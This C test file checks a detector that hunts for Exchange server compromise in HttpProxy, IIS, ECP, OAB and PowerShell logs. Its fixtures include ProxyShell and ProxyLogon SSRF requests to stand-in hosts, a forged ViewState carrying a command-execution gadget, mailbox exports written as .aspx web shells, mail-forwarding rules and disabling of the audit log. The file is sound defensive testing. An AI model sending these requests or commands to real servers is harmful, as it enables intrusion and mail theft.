/* Each log check on golden lines: what it must find, and look-alikes it
 * must leave alone. One header per format; the line under test follows. */
#include "hunt/detect.h"
#include "base/buf.h"
#include "check.h"
#include <stdlib.h>

#define HP                                                                     \
	"#Fields: "                                                            \
	"DateTime,ClientIpAddress,UserAgent,AnchorMailbox,HttpStatus,UrlStem," \
	"BackEndCookie\n"
#define IIS                                                                    \
	"#Fields: date time cs-method cs-uri-stem cs-uri-query cs-username "   \
	"c-ip cs(User-Agent) sc-status\n"
#define HPA                                                                    \
	"#Fields: DateTime,Method,UrlStem,UrlQuery,AuthenticatedUser,"         \
	"ClientIpAddress,UserAgent,HttpStatus\n"
#define ECP "#Fields: TimeStamp,ServerName,EventId,EventData\n"
#define RPS                                                                    \
	"#Fields: DateTime,StartTime,RequestId,UrlStem,AuthenticatedUser,"     \
	"ClientIpAddress,FrontEndServer,ServerHostName,HttpStatus,SubStatus,"  \
	"ClientInfo\n"

enum { F_HP, F_IIS, F_ECP, F_OAB, F_CMD, F_RPS };

static const struct {
	const char *name;
	int src;
	const char *text;
	const char *kind; /* NULL: nothing above informational */
	int cve;
	enum hunt_level level;
	enum severity sev; /* SEV_INFO: not checked */
} cases[] = {
    {"ssrf to mapi", F_HP,
     HP "2021-03-03T00:00:00Z,1.2.3.4,python,ServerInfo~a]@EX:444/mapi/emsmdb/"
        "?#,200,/ecp/y.js,\n",
     "ssrf-anchor-mailbox", HC_26855, HL_EXPLOITED, 0},
    {"ssrf lower case", F_HP,
     HP "2021-03-03T00:00:00Z,1.2.3.4,python,serverinfo~a]@EX:444/ecp/"
        "proxyLogon.ecp?#,241,/ecp/y.js,\n",
     "ssrf-anchor-mailbox", HC_26855, HL_EXPLOITED, 0},
    {"ssrf autodiscover only", F_HP,
     HP "2021-03-03T00:00:00Z,1.2.3.4,python,ServerInfo~a]@EX:444/autodiscover/"
        "autodiscover.xml?#,500,/ecp/y.js,\n",
     "ssrf-attempt", HC_26855, HL_ATTEMPTED, 0},
    {"ssrf localhost", F_HP,
     HP "2021-03-03T00:00:00Z,1.2.3.4,python,ServerInfo~localhost/ecp/x?#,500,/"
        "ecp/y.js,\n",
     "ssrf-attempt", HC_26855, HL_ATTEMPTED, 0},
    {"backend cookie", F_HP,
     HP "2021-03-03T00:00:00Z,1.2.3.4,python,,500,/owa/auth/"
        "x.js,Server~EX.corp/ecp/default.flt?~3\n",
     "ssrf-backend-cookie", HC_26855, HL_EXPLOITED, 0},
    {"vdir reset 200", F_HP,
     HP "2021-03-03T00:00:00Z,1.2.3.4,python,ServerInfo~a]@EX:444/ecp/DDI/"
        "DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#,200,/ecp/"
        "y.js,\n",
     "vdir-reset", HC_27065, HL_EXPLOITED, 0},
    {"normal anchor", F_HP,
     HP "2021-03-03T00:00:00Z,10.1.2.3,Outlook,\"Sid~S-1-5-21-1\",200,/owa/,\n",
     NULL, 0, 0, 0},
    {"proxyshell success", F_IIS,
     IIS "2021-08-20 11:00:05 POST /autodiscover/autodiscover.json "
         "@evil.com/powershell/?X-Rps-CAT=x&Email=autodiscover/"
         "autodiscover.json%3F@evil.com - 1.2.3.4 python 200\n",
     "proxyshell-ssrf", HC_34473, HL_EXPLOITED, 0},
    {"proxyshell 401", F_IIS,
     IIS "2021-08-20 11:00:05 POST /autodiscover/autodiscover.json "
         "@evil.com/mapi/nspi/?&Email=autodiscover/"
         "autodiscover.json%3F@evil.com - 1.2.3.4 python 401\n",
     "proxyshell-attempt", HC_34473, HL_ATTEMPTED, 0},
    {"proxyshell %40", F_IIS,
     IIS "2021-08-20 11:00:05 GET /autodiscover/autodiscover.json "
         "%40evil.com/mapi/nspi/?&Email=autodiscover/"
         "autodiscover.json%3F%40evil.com - 1.2.3.4 python 200\n",
     "proxyshell-ssrf", HC_34473, HL_EXPLOITED, 0},
    {"scanner probe", F_IIS,
     IIS "2021-08-20 11:00:05 GET /autodiscover/autodiscover.json "
         "@test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com - "
         "1.2.3.4 nmap 302\n",
     "proxyshell-scan", HC_34473, HL_ATTEMPTED, 0},
    {"confusion without a back end", F_IIS,
     IIS "2022-10-06 01:02:05 GET /autodiscover/autodiscover.json "
         "@x.oast.example/&Email=autodiscover/autodiscover.json%3f@x.oast."
         "example - 1.2.3.4 Mozilla/5.0 302\n",
     "proxyshell-attempt", HC_34473, HL_ATTEMPTED, 0},
    {"confusion without a back end, signed in", F_IIS,
     IIS "2022-10-06 01:02:05 GET /autodiscover/autodiscover.json "
         "@x.oast.example/&Email=autodiscover/autodiscover.json%3f@x.oast."
         "example CORP\\alice 1.2.3.4 Mozilla/5.0 200\n",
     "proxynotshell-attempt", HC_41040, HL_ATTEMPTED, 0},
    {"proxynotshell", F_IIS,
     IIS "2022-10-01 09:10:11 POST /autodiscover/autodiscover.json "
         "@evil.com/powershell/?&Email=autodiscover/"
         "autodiscover.json%3F@evil.com&Protocol=Powershell CORP\\alice "
         "1.2.3.4 python 200\n",
     "proxynotshell-powershell", HC_41082, HL_EXPLOITED, 0},
    {"owassrf", F_IIS,
     IIS "2022-12-05 02:03:04 POST /owa/alice@corp.example/powershell - "
         "CORP\\alice 1.2.3.4 python 200\n",
     "owassrf-powershell", HC_41082, HL_EXPLOITED, 0},
    {"owassrf from winrm", F_IIS,
     IIS "2022-12-05 02:03:04 POST /owa/alice@corp.example/powershell - "
         "CORP\\alice 10.1.2.3 Microsoft+WinRM+Client 200\n",
     NULL, 0, 0, 0},
    {"proxytoken", F_IIS,
     IIS "2021-08-30 12:00:00 POST "
         "/ecp/x@evil.com/RulesEditor/InboxRules.svc/NewObject - - 1.2.3.4 "
         "python 200\n",
     "proxytoken", HC_33766, HL_EXPLOITED, 0},
    {"ordinary autodiscover", F_IIS,
     IIS "2021-08-30 12:00:00 POST /autodiscover/autodiscover.json "
         "Email=alice%40corp.example&Protocol=ActiveSync CORP\\alice 10.1.2.3 "
         "Outlook 200\n",
     NULL, 0, 0, 0},
    {"ecp vdir script", F_ECP,
     ECP "2021-03-03T06:49:53.772Z,EX,ECP.Request,\"S:CMD=Set-"
         "OabVirtualDirectory.ExternalUrl='http://f/<script "
         "language=\"\"JScript\"\" runat=\"\"server\"\">x</script>'\"\n",
     "vdir-url-script", HC_27065, HL_EXPLOITED, 0},
    {"ecp vdir normal url", F_ECP,
     ECP "2021-03-03T06:49:53.772Z,EX,ECP.Request,\"S:CMD=Set-"
         "OabVirtualDirectory.ExternalUrl='https://mail.corp.example/OAB'\"\n",
     NULL, 0, 0, 0},
    {"oab outside", F_OAB,
     "2021-03-03T08:11:02Z Download failed and temporary file "
     "'C:\\inetpub\\wwwroot\\aspnet_client\\a.aspx' needs to be removed\n",
     "oab-write-outside", HC_26858, HL_EXPLOITED, 0},
    {"oab inside", F_OAB,
     "2021-03-03T08:11:02Z Download failed and temporary file 'C:\\Program "
     "Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\x' "
     "needs to be removed\n",
     NULL, 0, 0, 0},
    {"export to aspx", F_CMD,
     "2021-08-20T11:00:12Z New-MailboxExportRequest -Mailbox a -FilePath "
     "\"\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\a.aspx\"\n",
     "mailbox-export-to-aspx", HC_31207, HL_EXPLOITED, 0},
    {"proxyshell in the autodiscover proxy log", F_HP,
     HPA "2021-08-20T11:00:01.000Z,POST,/autodiscover/autodiscover.json,"
         "?@evil.com/mapi/nspi/?&Email=autodiscover/"
         "autodiscover.json%3F@evil.com,,203.0.113.9,python-requests,200\n",
     "proxyshell-ssrf", HC_34473, HL_EXPLOITED, 0},
    {"proxyshell powershell in the proxy log", F_HP,
     HPA "2021-08-20T11:00:05.000Z,POST,/autodiscover/autodiscover.json,"
         "?@evil.com/powershell/"
         "?X-Rps-CAT="
         "VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBhBZG1pbmlzdHJhdG9yQGNvcnAuZXhhbXBsZ"
         "Q==&Email=autodiscover/"
         "autodiscover.json%3F@evil.com,,203.0.113.9,python-requests,200\n",
     "proxyshell-powershell", HC_34523, HL_EXPLOITED, 0},
    {"proxyshell first step, autodiscover.xml", F_IIS,
     IIS "2021-08-20 11:00:00 POST /autodiscover/autodiscover.json "
         "@evil.com/autodiscover/autodiscover.xml?&Email=autodiscover/"
         "autodiscover.json%3F@evil.com&CorrelationID=<empty>;&cafeReqId=1; - "
         "203.0.113.9 python-requests/2.26.0 200\n",
     "proxyshell-ssrf", HC_34473, HL_EXPLOITED, 0},
    {"proxyshell emsmdb with a forged token", F_IIS,
     IIS "2021-08-20 11:00:02 POST /autodiscover/autodiscover.json "
         "@evil.com/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/"
         "autodiscover.json%3F@evil.com CORP\\Administrator "
         "203.0.113.9 python-requests/2.26.0 200\n",
     "proxyshell-powershell", HC_34523, HL_EXPLOITED, 0},
    {"proxyshell back end powershell", F_IIS,
     IIS "2021-08-20 11:00:03 POST /powershell "
         "X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/"
         "autodiscover.json%3F@evil.com CORP\\Administrator "
         "10.0.0.5 python-requests/2.26.0 200\n",
     "proxyshell-powershell", HC_34523, HL_EXPLOITED, 0},
    {"proxyshell 302 from a probe is only an attempt", F_IIS,
     IIS "2021-08-20 10:00:01 GET /autodiscover/autodiscover.json "
         "@fuzz.example/owa/?&Email=autodiscover/"
         "autodiscover.json%3F@fuzz.example - 198.51.100.3 curl 302\n",
     "proxyshell-attempt", HC_34473, HL_ATTEMPTED, 0},
    {"export to ashx", F_CMD,
     "2021-08-20T11:00:12Z New-MailboxExportRequest -Mailbox a -FilePath "
     "'\\\\localhost\\c$\\Program Files\\Microsoft\\Exchange "
     "Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\x.ashx'\n",
     "mailbox-export-to-aspx", HC_31207, HL_EXPLOITED, 0},
    {"export request removed", F_CMD,
     "2021-08-20T11:01:00Z Remove-MailboxExportRequest -Identity a\\x "
     "-Confirm:$false\n",
     "export-request-removed", HC_NONE, HL_NOT_SEEN, 0},
    {"cert request to a web folder", F_CMD,
     "2021-08-20T11:02:00Z New-ExchangeCertificate -GenerateRequest "
     "-BinaryEncoded -RequestFile "
     "\"\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\r.aspx\" "
     "-SubjectName \"c=US\"\n",
     "cert-request-to-aspx", HC_31207, HL_EXPLOITED, 0},
    {"transport agent installed", F_CMD,
     "2021-09-01T10:00:00Z Install-TransportAgent -Name \"Filter\" "
     "-TransportAgentFactory X.Factory -AssemblyPath C:\\ProgramData\\f.dll\n",
     "transport-agent", HC_NONE, HL_NOT_SEEN, 0},
    {"proxylogon's ssrf posted to a static file", F_IIS,
     IIS "2021-03-03 06:49:51 POST /ecp/y.js &CorrelationID=<empty>;"
         "&cafeReqId=7f3c; - 104.248.49.97 ExchangeServicesClient/0.0.0.0 "
         "200\n",
     "ssrf-static-post", HC_26855, HL_EXPLOITED, 0},
    {"ssrf posted to a static file, fields in another order", F_IIS,
     "#Fields: date time cs-uri-stem cs-uri-query cs-method cs-username "
     "c-ip cs(User-Agent) sc-status\n"
     "2021-03-03 06:49:51 /ecp/main.css - POST - 104.248.49.97 "
     "python-requests/2.25.1 200\n",
     "ssrf-static-post", HC_26855, HL_EXPLOITED, 0},
    {"ssrf to a theme resource, refused", F_IIS,
     IIS "2021-03-10 02:00:01 POST /owa/auth/Current/themes/resources/"
         "logon.css - - 198.51.100.3 python-requests/2.25.1 500\n",
     "ssrf-static-attempt", HC_26855, HL_ATTEMPTED, 0},
    {"proxylogon's cookie, where IIS logs cookies", F_IIS,
     "#Fields: date time cs-method cs-uri-stem cs-uri-query cs-username "
     "c-ip cs(User-Agent) cs(Cookie) sc-status\n"
     "2021-03-03 06:49:51 GET /owa/auth/x.js - - 104.248.49.97 "
     "python-requests/2.25.1 X-AnonResource=true;+X-AnonResource-Backend="
     "localhost/ecp/default.flt?~3;+X-BEResource=localhost/owa/auth/"
     "logon.aspx?~3; 200\n",
     "ssrf-cookie", HC_26855, HL_EXPLOITED, SEV_HIGH},
    {"proxylogon's cookie refused", F_IIS,
     "#Fields: date time cs-method cs-uri-stem cs-uri-query cs-username "
     "c-ip cs(User-Agent) cs(Cookie) sc-status\n"
     "2021-03-10 06:49:51 GET /ecp/y.js - - 104.248.49.97 "
     "python-requests/2.25.1 X-BEResource=a%5D@exch01.corp.example:444/"
     "autodiscover/autodiscover.xml?%23~1942062522 503\n",
     "ssrf-cookie-attempt", HC_26855, HL_ATTEMPTED, SEV_MEDIUM},
    {"a back-end cookie without a path", F_IIS,
     "#Fields: date time cs-method cs-uri-stem cs-uri-query cs-username "
     "c-ip cs(User-Agent) cs(Cookie) sc-status\n"
     "2021-03-10 06:49:51 GET /owa/ - CORP\\alice 10.0.0.7 "
     "Mozilla/5.0 X-BEResource=EXCH01~1942062522;+ResourceView=a/b~c 200\n",
     NULL, 0, 0, 0},
    {"ECP's back end resetting the OAB directory as the machine account",
     F_IIS,
     IIS "2021-03-03 06:49:55 POST /ecp/DDI/DDIService.svc/SetObject "
         "schema=ResetOABVirtualDirectory&msExchEcpCanary=x "
         "CORP\\EXCH01$ 127.0.0.1 ExchangeServicesClient/0.0.0.0 200\n",
     "vdir-reset", HC_27065, HL_EXPLOITED, SEV_CRITICAL},
    {"ECP's back end setting the OAB directory as the machine account",
     F_IIS,
     IIS "2021-03-03 06:49:53 POST /ecp/DDI/DDIService.svc/SetObject "
         "schema=OABVirtualDirectory&msExchEcpCanary=x CORP\\EXCH01$ "
         "127.0.0.1 ExchangeServicesClient/0.0.0.0 200\n",
     "vdir-set-ssrf", HC_27065, HL_EXPLOITED, SEV_HIGH},
    {"an administrator resetting a directory in ECP", F_IIS,
     IIS "2021-05-03 10:00:00 POST /ecp/DDI/DDIService.svc/SetObject "
         "schema=ResetOABVirtualDirectory&msExchEcpCanary=x CORP\\admin "
         "10.0.0.20 Mozilla/5.0 200\n",
     NULL, 0, 0, 0},
    {"a browser fetching ECP's script", F_IIS,
     IIS "2021-03-03 06:49:51 GET /ecp/15.1.2176/scripts/common.js - "
         "CORP\\alice 10.1.2.3 Mozilla/5.0 200\n",
     NULL, 0, 0, 0},
    {"ECP's own web service posted to", F_IIS,
     IIS "2021-03-03 06:49:51 POST /ecp/DDI/DDIService.svc/GetList "
         "msExchEcpCanary=x CORP\\alice 10.1.2.3 Mozilla/5.0 200\n",
     NULL, 0, 0, 0},
    {"forged viewstate in the query (CVE-2020-0688)", F_IIS,
     IIS "2020-03-01 03:04:05 GET /ecp/default.aspx "
         "__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2FwEyAAEAAAAMAlN5c3RlbS5"
         "EZWxlZ2F0ZVNlcmlhbGl6YXRpb25Ib2xkZXIgVHlwZUNvbmZ1c2VEZWxlZ2F0ZSBTeX"
         "N0ZW0uRGlhZ25vc3RpY3MuUHJvY2VzcyBTdGFydCBjbWQgL2Mgd2hvYW1p "
         "CORP\\alice 198.51.100.7 python-requests 500\n",
     "viewstate-exploit", HC_NONE, HL_ATTEMPTED, 0},
    {"a short viewstate in a query carries no gadget", F_IIS,
     IIS "2020-03-01 03:04:06 GET /app/list.aspx "
         "page=2&__VIEWSTATE=%2FwEPDwUKLTEyMzQ1Njc4OWRk CORP\\bob 10.0.0.9 "
         "Mozilla/5.0 200\n",
     NULL, 0, 0, 0},
    {"export to pst", F_CMD,
     "2021-08-20T11:00:12Z New-MailboxExportRequest -Mailbox a -FilePath "
     "\"\\\\fs\\exports\\a.pst\"\n",
     NULL, 0, 0, 0},
    {"export to a PST staged in ProgramData", F_CMD,
     "2021-08-20T11:00:12Z New-MailboxExportRequest -Mailbox ceo -FilePath "
     "\"\\\\localhost\\c$\\ProgramData\\VMware\\c.pst\"\n",
     "mailbox-export", HC_NONE, HL_NOT_SEEN, 0},
    /* mail access: every mailbox read, mail sent on, the audit off */
    {"impersonation granted", F_CMD,
     "2021-03-04T02:00:00Z New-ManagementRoleAssignment -Name \"x\" -Role "
     "\"ApplicationImpersonation\" -User \"svc-sync@corp.example\"\n",
     "impersonation-role", HC_NONE, HL_NOT_SEEN, SEV_HIGH},
    {"a forwarding inbox rule that deletes what it sent", F_CMD,
     "2021-03-04T02:01:00Z New-InboxRule -Mailbox ceo -Name \".\" "
     "-ForwardTo \"drop@mailbox.example\" -DeleteMessage $true\n",
     "inbox-rule-forward", HC_NONE, HL_NOT_SEEN, SEV_HIGH},
    {"a forwarding inbox rule", F_CMD,
     "2021-03-04T02:01:00Z New-InboxRule -Mailbox bob -Name \"to home\" "
     "-RedirectTo \"bob@home.example\"\n",
     "inbox-rule-forward", HC_NONE, HL_NOT_SEEN, SEV_MEDIUM},
    {"an inbox rule filing newsletters", F_CMD,
     "2021-03-04T02:01:00Z New-InboxRule -Mailbox bob -Name news "
     "-From news@vendor.example -MoveToFolder \"bob:\\News\" "
     "-CopyToFolder \"bob:\\Archive\"\n",
     NULL, 0, 0, 0},
    {"mailbox forwarding set", F_CMD,
     "2021-03-04T02:02:00Z Set-Mailbox -Identity cfo "
     "-ForwardingSmtpAddress \"smtp:cfo@mailbox.example\" "
     "-DeliverToMailboxAndForward $true\n",
     "mailbox-forwarding", HC_NONE, HL_NOT_SEEN, SEV_MEDIUM},
    {"mailbox forwarding taken away", F_CMD,
     "2021-03-04T02:02:00Z Set-Mailbox -Identity cfo "
     "-ForwardingSmtpAddress $null\n",
     NULL, 0, 0, 0},
    {"a mailbox database set", F_CMD,
     "2021-03-04T02:02:00Z Set-MailboxDatabase -Identity DB01 "
     "-ForwardingSmtpAddress x -IssueWarningQuota 9GB\n",
     NULL, 0, 0, 0},
    {"an inbox opened to every account", F_CMD,
     "2021-03-04T02:02:30Z Add-MailboxFolderPermission -Identity "
     "\"ceo@corp.example:\\Inbox\" -User Default -AccessRights Reviewer\n",
     "mailbox-folder-open", HC_NONE, HL_NOT_SEEN, SEV_MEDIUM},
    {"a mailbox's root opened to anyone", F_CMD,
     "2021-03-04T02:02:31Z Set-MailboxFolderPermission -Identity "
     "cfo:\\ -User Anonymous -AccessRights Owner\n",
     "mailbox-folder-open", HC_NONE, HL_NOT_SEEN, SEV_HIGH},
    {"a calendar shared with everyone", F_CMD,
     "2021-03-04T02:02:32Z Add-MailboxFolderPermission -Identity "
     "\"rooms@corp.example:\\Calendar\" -User Default -AccessRights "
     "Reviewer\n",
     NULL, 0, 0, 0},
    {"free and busy times for everyone", F_CMD,
     "2021-03-04T02:02:33Z Set-MailboxFolderPermission -Identity "
     "bob:\\Inbox -User Default -AccessRights AvailabilityOnly\n",
     NULL, 0, 0, 0},
    {"an assistant reads an inbox", F_CMD,
     "2021-03-04T02:02:34Z Add-MailboxFolderPermission -Identity "
     "ceo:\\Inbox -User assistant@corp.example -AccessRights Reviewer\n",
     NULL, 0, 0, 0},
    {"every message blind-copied out", F_CMD,
     "2021-03-04T02:03:00Z New-TransportRule -Name \"Compliance\" "
     "-BlindCopyTo \"archive@mailbox.example\" -Priority 0\n",
     "transport-rule-copy", HC_NONE, HL_NOT_SEEN, SEV_HIGH},
    {"a disclaimer rule", F_CMD,
     "2021-03-04T02:03:00Z New-TransportRule -Name \"Footer\" "
     "-ApplyHtmlDisclaimerText \"<p>Confidential</p>\"\n",
     NULL, 0, 0, 0},
    {"full access for everyone", F_CMD,
     "2021-03-04T02:04:00Z Add-MailboxPermission -Identity ceo "
     "-User \"Everyone\" -AccessRights FullAccess -InheritanceType All\n",
     "mailbox-full-access", HC_NONE, HL_NOT_SEEN, SEV_HIGH},
    {"full access for a shared mailbox's member", F_CMD,
     "2021-03-04T02:04:00Z Add-MailboxPermission -Identity sales "
     "-User alice -AccessRights FullAccess\n",
     NULL, 0, 0, 0},
    {"a compliance search", F_CMD,
     "2021-03-04T02:06:00Z New-ComplianceSearch -Name hold1 "
     "-ContentMatchQuery \"subject:'Project X'\"\n",
     NULL, 0, 0, 0},
    {"read permission for a delegate", F_CMD,
     "2021-03-04T02:04:00Z Add-MailboxPermission -Identity ceo "
     "-User pa -AccessRights ReadPermission\n",
     NULL, 0, 0, 0},
    {"receive-as on a database", F_CMD,
     "2021-03-04T02:05:00Z Add-ADPermission -Identity \"DB01\" -User "
     "\"CORP\\healthmailbox9\" -ExtendedRights Receive-As\n",
     "mailbox-full-access", HC_NONE, HL_NOT_SEEN, SEV_HIGH},
    {"a search of every mailbox", F_CMD,
     "2021-03-04T02:06:00Z New-MailboxSearch -Name s1 -SearchQuery "
     "password -TargetMailbox \"Discovery Search Mailbox\"\n",
     "mailbox-search", HC_NONE, HL_NOT_SEEN, SEV_MEDIUM},
    {"the admin audit log switched off", F_CMD,
     "2021-03-04T02:07:00Z Set-AdminAuditLogConfig -AdminAuditLogEnabled "
     "$false\n",
     "audit-off", HC_NONE, HL_NOT_SEEN, SEV_HIGH},
    {"the admin audit log switched on", F_CMD,
     "2021-03-04T02:07:00Z Set-AdminAuditLogConfig -AdminAuditLogEnabled "
     "$true\n",
     NULL, 0, 0, 0},
    {"an organization admin added", F_CMD,
     "2021-03-04T02:08:00Z Add-RoleGroupMember \"Organization "
     "Management\" -Member helpdesk2\n",
     "org-admin-added", HC_NONE, HL_NOT_SEEN, SEV_HIGH},
    {"a forwarding rule made through ECP (ProxyToken)", F_ECP,
     ECP "2021-08-10T10:00:00.000Z,EXCH01,ECP.Request,\"S:CMD=New-InboxRule"
         ".Mailbox='ceo'.ForwardTo='drop@mailbox.example';S:URL=/ecp/"
         "RulesEditor/InboxRules.svc/NewObject\"\n",
     "inbox-rule-forward", HC_NONE, HL_NOT_SEEN, SEV_MEDIUM},
    {"remote PowerShell opened by a script's client (OWASSRF's tool)",
     F_RPS,
     RPS "2022-12-05T02:03:06.000Z,2022-12-05T02:03:05.900Z,7a1b,"
         "/powershell,CORP\\alice,203.0.113.66,EXCH01,EXCH01,200,0,"
         "python-requests/2.28.1\n",
     "rps-odd-client", HC_41082, HL_EXPLOITED, SEV_HIGH},
    {"remote PowerShell refused to a script's client", F_RPS,
     RPS "2022-12-05T02:03:06.000Z,2022-12-05T02:03:05.900Z,7a1b,"
         "/powershell,,203.0.113.66,EXCH01,EXCH01,401,0,"
         "\"Go-http-client/1.1\"\n",
     "rps-odd-client-attempt", HC_41082, HL_ATTEMPTED, SEV_MEDIUM},
    {"the Exchange Management Shell", F_RPS,
     RPS "2022-12-05T03:00:00.000Z,2022-12-05T03:00:00.000Z,7a1c,"
         "/powershell,CORP\\adm,10.0.0.2,EXCH01,EXCH01,200,0,"
         "Microsoft WinRM Client\n",
     NULL, 0, 0, 0},
    {"managed availability's probe, and a client unnamed", F_RPS,
     RPS "2022-12-05T03:00:00.000Z,,1,/powershell,HealthMailbox1,"
         "10.0.0.1,EXCH01,EXCH01,200,0,Exchange BackEnd Probes\n"
         "2022-12-05T03:00:01.000Z,,2,/powershell,adm,10.0.0.2,EXCH01,"
         "EXCH01,200,0,\n",
     NULL, 0, 0, 0},
    {"inbox rules listed in ECP", F_ECP,
     ECP "2021-08-10T10:00:00.000Z,EXCH01,ECP.Request,\"S:CMD=Get-InboxRule"
         ";S:URL=/ecp/RulesEditor/InboxRules.svc\"\n",
     NULL, 0, 0, 0},
};

/* Runs one detector over text as the log at path, into h (fresh). */
static void run_log(struct hunt *h, const char *text, enum log_format fmt,
                    log_cb cb, const char *path)
{
	struct detect_ctx d;
	struct log_stats st;

	memset(h, 0, sizeof *h);
	memset(&d, 0, sizeof d);
	d.h = h;
	d.path = path;
	logread_mem(text, strlen(text), fmt, cb, &d, &st);
}

int main(void)
{
	size_t i, k;

	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		struct hunt h;
		static const log_cb cbs[] = {detect_httpproxy, detect_iis,
		                             detect_ecp, detect_oab,
		                             detect_cmdlets, detect_rps_http};
		static const enum log_format fmts[] = {
		    LOG_CSV, LOG_W3C, LOG_CSV, LOG_TEXT, LOG_TEXT, LOG_CSV};
		const struct finding *hit = NULL;
		run_log(&h, cases[i].text, fmts[cases[i].src],
		        cbs[cases[i].src], "log");
		size_t above = 0; /* findings above informational */
		for (k = 0; k < h.nf; k++) {
			above += h.f[k].sev > SEV_INFO;
			if (h.f[k].sev > SEV_INFO && cases[i].kind &&
			    !strcmp(h.f[k].kind, cases[i].kind))
				hit = &h.f[k];
		}
		check_count++;
		if (cases[i].kind ? !hit || hit->cve != cases[i].cve ||
		                        hit->level != cases[i].level ||
		                        hit->line != 2 - (fmts[cases[i].src] == LOG_TEXT) ||
		                        (cases[i].sev && hit->sev != cases[i].sev)
		                  : above != 0) {
			fprintf(stderr, "%s: %zu findings, first %s\n",
			        cases[i].name, h.nf, h.nf ? h.f[0].kind : "-");
			check_failures++;
		}
		hunt_release(&h);
	}
	/* A log saved again with every field quoted (Export-Csv, a
	 * spreadsheet): the same finding, and its time in the coverage. */
	{
		static const char q[] =
		    "\"DateTime\",\"ClientIpAddress\",\"UserAgent\","
		    "\"AnchorMailbox\",\"HttpStatus\",\"UrlStem\"\n"
		    "\"2021-03-03T06:49:43.699Z\",\"1.2.3.4\",\"python\","
		    "\"ServerInfo~a]@EX:444/mapi/emsmdb/?#\",\"200\","
		    "\"/ecp/y.js\"\n";
		struct hunt h;
		run_log(&h, q, LOG_CSV, detect_httpproxy, "log");
		CHECK(h.nf == 1 && !strcmp(h.f[0].kind, "ssrf-anchor-mailbox"));
		CHECK(!strcmp(h.cov[LS_HTTPPROXY].oldest,
		              "2021-03-03T06:49:43.699Z"));
		hunt_release(&h);
	}
	/* OWASSRF in OWA's proxy log: /owa/<address>/powershell posted and
	 * answered 200; the same from Exchange's own WinRM client is not. */
	{
		static const char owa[] =
		    HPA "2022-12-05T02:03:04.123Z,POST,/owa/"
		        "alice@corp.example/powershell,,CORP\\alice,"
		        "198.51.100.9,python-requests/2.28.1,200\n"
		        "2022-12-05T02:04:00.000Z,POST,/owa/bob@corp.example/"
		        "powershell,,CORP\\bob,10.1.2.3,Microsoft WinRM Client,"
		        "200\n";
		struct hunt h;
		size_t j, hits = 0, line2 = 0;
		run_log(&h, owa, LOG_CSV, detect_httpproxy,
		        "Logging/HttpProxy/Owa/HttpProxy_2022120502-1.LOG");
		for (j = 0; j < h.nf; j++) {
			hits += !strcmp(h.f[j].kind, "owassrf-powershell") &&
			        h.f[j].cve == HC_41082 &&
			        h.f[j].level == HL_EXPLOITED;
			line2 += h.f[j].line == 3;
		}
		CHECK(hits == 1 && line2 == 0);
		hunt_release(&h);
	}
	/* A forged ViewState in a query: what to do next asks whether the
	 * server had the February 2020 update on that day. */
	{
		static const char vs[] = IIS
		    "2020-03-01 03:04:05 GET /ecp/default.aspx "
		    "__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2FwEyAAEAAAAM"
		    "AlN5c3RlbS5EZWxlZ2F0ZVNlcmlhbGl6YXRpb25Ib2xkZXIgVHlwZUNv"
		    "bmZ1c2VEZWxlZ2F0ZSBTeXN0ZW0uRGlhZ25vc3RpY3MuUHJvY2VzcyBT"
		    "dGFydCBjbWQgL2Mgd2hvYW1p - 198.51.100.7 python 500\n";
		struct hunt h;
		struct buf b;
		run_log(&h, vs, LOG_W3C, detect_iis, "log");
		buf_init(&b, 1 << 20);
		CHECK(hunt_report_json(&h, &b) == 0 && b.p &&
		      strstr(b.p, "had the February 2020 update (or its own "
		                  "machine keys) on 2020-03-01T03:04:05Z"));
		buf_release(&b);
		hunt_release(&h);
	}
	/* A log that records no status cannot tell exploited from
	 * attempted: the finding and the hunt say so (once per log, with
	 * its fields bound again by a second header). */
	{
		static const char ns[] =
		    "#Fields: date time cs-method cs-uri-stem cs-uri-query "
		    "c-ip cs(User-Agent)\n"
		    "2021-08-20 11:00:05 POST /autodiscover/autodiscover.json "
		    "@evil.com/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email="
		    "autodiscover/autodiscover.json%3F@evil.com 203.0.113.66 "
		    "python\n"
		    "#Fields: date time cs-method cs-uri-stem cs-uri-query "
		    "c-ip\n"
		    "2021-08-20 11:00:06 GET /owa/ - 10.1.2.3\n";
		struct hunt h;
		run_log(&h, ns, LOG_W3C, detect_iis, "log");
		CHECK(h.iis_no_status == 1);
		CHECK(h.nf >= 1 && h.f[0].level == HL_ATTEMPTED &&
		      strstr(h.f[0].detail, "status not logged (so it may "
		                            "have succeeded)"));
		hunt_release(&h);
		run_log(&h, IIS "2021-08-20 11:00:06 GET /owa/ - - 10.1.2.3 "
		                "x 200\n",
		        LOG_W3C, detect_iis, "log");
		CHECK(h.iis_no_status == 0);
		hunt_release(&h);
	}
	return check_done();
}
